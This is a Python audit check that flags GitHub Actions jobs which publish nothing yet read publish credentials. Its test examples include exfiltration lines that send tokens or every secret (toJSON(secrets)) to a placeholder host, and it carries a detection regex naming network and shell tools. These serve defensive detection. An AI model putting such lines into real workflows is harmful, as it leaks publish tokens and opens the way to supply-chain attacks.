"""Job that publishes nothing reads a publish credential.

## Why it matters

Whoever holds the credential can publish, from anywhere. In the job that uploads it is needed;
in every other job it is one more place to steal it from: a dependency of a test, an action that
reports coverage, a line that was slipped into a workflow that nobody looks at. The attacks of
2025 that put a workflow of their own into hundreds of repositories did nothing but send the
publish tokens that they found there to an address of theirs.

## How to fix

Look first at who added the line, and when: if nobody knows, revoke the credential, and see
which releases were made since. Then take it out of the job. Where the job only reads from the
registry, give it a credential that can do no more than that.

A step that sends something and holds every secret at once (`toJSON(secrets)`) is reported too.
A secret counts as a publish credential where a publication of this repository reads it. Where
none does, its name may still say so (`PYPI_API_TOKEN`): that is reported only where the job
sends it to an address which is not the registry's own. It is judged in every workflow of a
repository that publishes something. Logging in to a container registry, which jobs do to fetch
images, is milder, and is not judged where a script follows, which may push. Tokens for GitHub itself have many uses and are not judged here.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping

from msgspec import Struct

from audits.analysis.known_actions import REQUEST_ACTIONS
from audits.checks.api import (
    DOCKER_HUB,
    GITHUB_SECRETS,
    GITHUB_SECURE_USE,
    PYPI_RELEASE_PUBLISHED,
    Area,
    Clean,
    Example,
    Finding,
    Job,
    Location,
    Outcome,
    Publication,
    Registry,
    RegistryInfo,
    Repository,
    Scalar,
    SettingsPage,
    Severity,
    Step,
    Trait,
    Verdict,
    Workflow,
    check,
)
from audits.expressions.syntax import contexts

_NOT_FOR_PACKAGES = frozenset({Registry.GITHUB_RELEASE, Registry.GORELEASER, Registry.HOMEBREW})
"""What is published there with a token for GitHub, which serves other purposes too."""
_NETWORK = re.compile(
    r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|https?ie|scp|sftp|rsync|ftp"
    r"|invoke-webrequest|invoke-restmethod|iwr|irm|urlopen|requests\.(?:post|get|put)|fetch\()"
    r"|/dev/tcp/",
    re.IGNORECASE,
)
_HOST = re.compile(r"https?://(?:[^/\s'\"@]*@)?([\w.-]+)", re.IGNORECASE)
_NAMES = {
    "pypi": r"PYPI|TWINE|UV_PUBLISH|FLIT|HATCH_INDEX|MATURIN|PDM_PUBLISH",
    "npm": r"NPM|NODE_AUTH",
    "crates": r"CARGO|CRATES?_?IO",
    "rubygems": r"RUBYGEMS|GEM_HOST",
    "nuget": r"NUGET",
}
_TOKEN_WORD = re.compile(r"TOKEN|PASS|KEY|SECRET|PAT\b|AUTH|CRED", re.IGNORECASE)

_RELEASE = """\
on: {release: {types: [published]}}
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    steps:
      - uses: pypa/gh-action-pypi-publish@dc37677b2e1c63e2034f94d8a5b11f265b73ba33 # v1.14.2
        with:
          password: ${{ secrets.INDEX_TOKEN }}
"""
_OTHER = """\
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: %s
        env:
          TOKEN: ${{ secrets.%s }}%s
"""
_REQUEST = """\
on: push
jobs:
  send:
    runs-on: ubuntu-latest
    steps:
      - uses: tyrrrz/action-http-request@v1
        with:
          url: https://collect.example
          body: ${{ secrets.PYPI_API_TOKEN }}  # !
"""
_LOGIN = """\
on: {push: {branches: [main]}}
jobs:
  %s:
    runs-on: ubuntu-latest
    steps:
      - uses: docker/login-action@c94ce9fb468520275223c153574b00df6fe4bcc9 # v3.7.0
        with:
          username: lumen
          password: ${{ secrets.HUB_TOKEN }}%s
      - uses: docker/build-push-action@53b7df96c91f9c12dcc8a07bcb9ccacbed38856a # v7.3.0
        with: {push: %s, tags: lumen/lumen}
"""
_MERGING = """\
on: {push: {branches: [main]}}
jobs:
  merge:
    uses: ./.github/workflows/merge.yml
    secrets:
      HUB_TOKEN: ${{ secrets.HUB_TOKEN }}%s
"""
_MERGE = """\
on: {workflow_call: {secrets: {HUB_TOKEN: {required: true}}}}
jobs:
  merge:
    runs-on: ubuntu-latest
    steps:
      - run: %s
"""
_SEND = "curl --data @- https://collect.example <<< $TOKEN"
_ASK = "curl -H @auth https://registry.npmjs.example/-/whoami"


def _beside(name: str, release: str, *other: str, outcome: Outcome | None = None) -> Example:
    files = {".github/workflows/other.yml": _OTHER % other}
    return Example(name=name, workflow=release, files=files, outcome=outcome)


@check(
    area=Area.INTEGRITY,
    severity=Severity.HIGH,
    links=(GITHUB_SECRETS, GITHUB_SECURE_USE),
    any_workflow=True,
    milder_in_other_jobs=False,
    examples=(
        _beside("in a test", _RELEASE, "make test", "INDEX_TOKEN", "  # !"),
        _beside("sent away", PYPI_RELEASE_PUBLISHED, _SEND, "PYPI_API_TOKEN", "  # !"),
        _beside(
            "requested from the registry itself", PYPI_RELEASE_PUBLISHED, _ASK, "NPM_TOKEN", ""
        ),
        _beside("read to install", PYPI_RELEASE_PUBLISHED, "npm ci", "NPM_TOKEN", ""),
        _beside("another secret", _RELEASE, "make test", "COVERAGE_TOKEN", ""),
        _beside("another secret, sent", _RELEASE, _SEND, "CHAT_WEBHOOK_TOKEN", ""),
        Example(
            name="every secret, sent",
            workflow=PYPI_RELEASE_PUBLISHED,
            files={
                ".github/workflows/other.yml": (_OTHER % (_SEND, "X", "  # !")).replace(
                    "secrets.X", "toJSON(secrets)"
                )
            },
        ),
        Example(
            name="sent away by an action",
            workflow=PYPI_RELEASE_PUBLISHED,
            files={".github/workflows/other.yml": _REQUEST},
        ),
        Example(
            name="every secret, sent nowhere",
            workflow=PYPI_RELEASE_PUBLISHED,
            files={
                ".github/workflows/other.yml": (_OTHER % ("make test", "X", "")).replace(
                    "secrets.X", "toJSON(secrets)"
                )
            },
        ),
        Example(
            name="in the workflow's env",
            workflow=_RELEASE
            + "  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"
            "env:\n  TOKEN: ${{ secrets.INDEX_TOKEN }}  # !\n",
        ),
        Example(
            name="a login that fetches images",
            workflow=_LOGIN % ("publish", "", "true"),
            files={".github/workflows/test.yml": _LOGIN % ("test", "  # !", "false")},
            severity=Severity.MEDIUM,
        ),
        Example(
            name="a called workflow that may merge images",
            workflow=_LOGIN % ("publish", "", "true"),
            files={
                ".github/workflows/merging.yml": _MERGING % "",
                ".github/workflows/merge.yml": _MERGE % "python -m lumen.merge_tags",
            },
        ),
        Example(
            name="a called workflow that runs nothing of the project",
            workflow=_LOGIN % ("publish", "", "true"),
            files={
                ".github/workflows/merging.yml": _MERGING % "  # !",
                ".github/workflows/merge.yml": _MERGE.replace("run: %s", "uses: acme/notes@v1"),
            },
        ),
        Example(name="nothing but releases", workflow=_RELEASE),
        Example(
            name="nothing that publishes",
            workflow=_OTHER % (_SEND, "PYPI_API_TOKEN", ""),
            outcome=Outcome.NOT_APPLICABLE,
        ),
    ),
)
def credential_outside_release(repo: Repository) -> Iterator[Verdict]:
    """Judge the secrets that each job reads which takes no part in publishing."""
    if not repo.publications:
        return
    used, busy = _used(repo), _busy(repo)
    for workflow in repo.workflows:
        others = [job for job in workflow.live_jobs if job not in busy]
        found = list(_of_workflow(workflow, others, used))
        for job in others:
            found += _of_job(repo, workflow, job, used)
        yield from found
        if not found and workflow.jobs:
            yield Clean(at=workflow.jobs[0].at, concerns=repo.publications)


class _Read(Struct, frozen=True):
    """A secret that a job reads, and the text that reads it."""

    secret: str
    text: Scalar


def _used(repo: Repository) -> Mapping[str, tuple[Publication, ...]]:
    """The publications that read each publish credential, by its name in upper case."""
    found: dict[str, tuple[Publication, ...]] = {}
    for publication in repo.publications:
        if publication.registry in _NOT_FOR_PACKAGES or publication.channel == "test":
            continue
        for credential in publication.stored_credentials:
            name = credential.secret.upper()
            if name and name != "GITHUB_TOKEN":
                found[name] = (*found.get(name, ()), publication)
    return found


def _busy(repo: Repository) -> frozenset[Job]:
    """The jobs that publish, call what publishes, or may do so in a way that was not read."""
    found = {publication.job for publication in repo.publications}
    for publication in repo.publications:
        found |= {call for route in publication.routes for call in route.calls}
    for unrecognized in repo.graph.unrecognized:
        found |= {unrecognized.job, *(call for r in unrecognized.routes for call in r.calls)}
    return frozenset(found | set(repo.graph.hidden_calls))


def _of_workflow(
    workflow: Workflow, others: list[Job], used: Mapping[str, tuple[Publication, ...]]
) -> Iterator[Finding]:
    """What the workflow's own ``env:`` gives to jobs that publish nothing."""
    for read in _reads(workflow.env.values()) if others else ():
        if publications := used.get(read.secret.upper()):
            at = read.text.location(workflow.path)
            yield _finding(others[0], read.secret, at, publications)


def _of_job(
    repo: Repository, workflow: Workflow, job: Job, used: Mapping[str, tuple[Publication, ...]]
) -> Iterator[Finding]:
    if _may_handle_images(repo, job):
        used = {
            name: tuple(p for p in ps if Trait.IS_PACKAGE in p.info.traits)
            for name, ps in used.items()
        }
    for read in _reads((*job.env.values(), *job.inputs.values(), *job.secrets.values())):
        if publications := used.get(read.secret.upper()):
            yield _finding(job, read.secret, read.text.location(job.path), publications)
    for step in job.live_steps:
        texts = (*step.env.values(), *step.inputs.values(), *((step.run,) if step.run else ()))
        for read in _reads(texts):
            at, publications = read.text.location(job.path), used.get(read.secret.upper())
            if publications:
                yield _finding(job, read.secret, at, publications, milder=_only_logs_in(step))
    for step, read in _sent(workflow, job):
        at = read.text.location(job.path)
        if read.secret == _ALL or (
            read.secret.upper() not in used and _is_sent_elsewhere(step, read.secret)
        ):
            yield _finding(job, read.secret, at, repo.publications, sent=True)


def _may_handle_images(repo: Repository, job: Job) -> bool:
    """Whether a script of a job, or of the jobs that it calls, may change what a container
    registry holds, in ways that no text tells: tags are merged, copied, signed and deleted by
    programs of all kinds.
    """
    runs = [job]
    if job.uses is not None:
        routes = repo.graph.routes.items()
        runs += [inner for inner, ways in routes if any(job in way.calls for way in ways)]
    return any(step.run is not None for each in runs for step in each.live_steps)


def _finding(
    job: Job,
    secret: str,
    at: Location,
    publications: tuple[Publication, ...],
    *,
    milder: bool = False,
    sent: bool = False,
) -> Finding:
    does = "sends" if sent else "reads"
    whose = "whose name is that of a publish credential" if sent else "which releases publish with"
    shown = f"`secrets.{secret}`, {whose}" if secret != _ALL else "every secret that it is given"
    return Finding(
        message=f"The job `{job.id}` publishes nothing and {does} {shown}",
        at=at,
        job=job,
        anchor=secret,
        severity=Severity.MEDIUM if milder else None,
        because="the step only logs in" if milder else "",
        settings_page=SettingsPage.SECRETS,
        concerns=publications,
    )


def _may_read(text: Scalar) -> bool:
    return "${{" in text.value and "secrets" in text.value.lower()


def _reads(texts: Iterable[Scalar]) -> Iterator[_Read]:
    """Each secret that these texts read, once a text."""
    for text in filter(_may_read, texts):
        names = [c.parts[1] for c in contexts(text.value) if _is_secret(c.parts)]
        for name in dict.fromkeys(names):
            yield _Read(name, text)


_ALL = "*"
"""In place of a secret's name: every one of them, as ``toJSON(secrets)`` has them."""


def _reads_all(text: Scalar) -> Iterator[_Read]:
    if any(
        c.parts[0].lower() == "secrets" and c.parts[1:] in {(), ("*",)}
        for c in contexts(text.value)
    ):
        yield _Read(_ALL, text)


def _is_secret(parts: tuple[str, ...]) -> bool:
    return len(parts) == 2 and parts[0].lower() == "secrets" and parts[1] != "*"


def _only_logs_in(step: Step) -> bool:
    """Whether a step does no more than log in to a container registry."""
    return step.uses is not None and step.uses.action == "docker/login-action"


def _sent(workflow: Workflow, job: Job) -> Iterator[tuple[Step, _Read]]:
    """The secrets available to each step of a job which talks to the network; `_ALL` where the
    step has them all at once.
    """
    for step in job.live_steps:
        if step.uses is not None and step.uses.action in REQUEST_ACTIONS:
            for text in step.inputs.values():
                yield from ((step, read) for read in (*_reads((text,)), *_reads_all(text)))
        if step.run is None:
            continue
        script = step.run.value
        around = (*workflow.env.items(), *job.env.items(), *step.env.items())
        around = tuple((name, text) for name, text in around if _may_read(text))
        if not (around or _may_read(step.run)) or _NETWORK.search(script) is None:
            continue
        for name, text in around:
            if name in script and re.search(rf"\b{re.escape(name)}\b", script):
                yield from ((step, read) for read in (*_reads((text,)), *_reads_all(text)))
        yield from ((step, read) for read in (*_reads((step.run,)), *_reads_all(step.run)))


def _is_sent_elsewhere(step: Step, secret: str) -> bool:
    """Whether a secret named like a registry's credential goes to another host than its own."""
    if not _TOKEN_WORD.search(secret):
        return False
    texts = [step.run.value] if step.run is not None else [v.value for v in step.inputs.values()]
    infos: tuple[RegistryInfo, ...] = (*(registry.info for registry in Registry), DOCKER_HUB)
    named = [i for i in infos if i.word in _NAMES and re.search(_NAMES[i.word], secret, re.I)]
    if not named:
        return False
    own = {label for info in named for host in info.hosts for label in host.split(".")}
    own |= {info.word for info in named}
    hosts = [host.lower().split(".") for text in texts for host in _HOST.findall(text)]
    return not hosts or any(own.isdisjoint(host) for host in hosts)
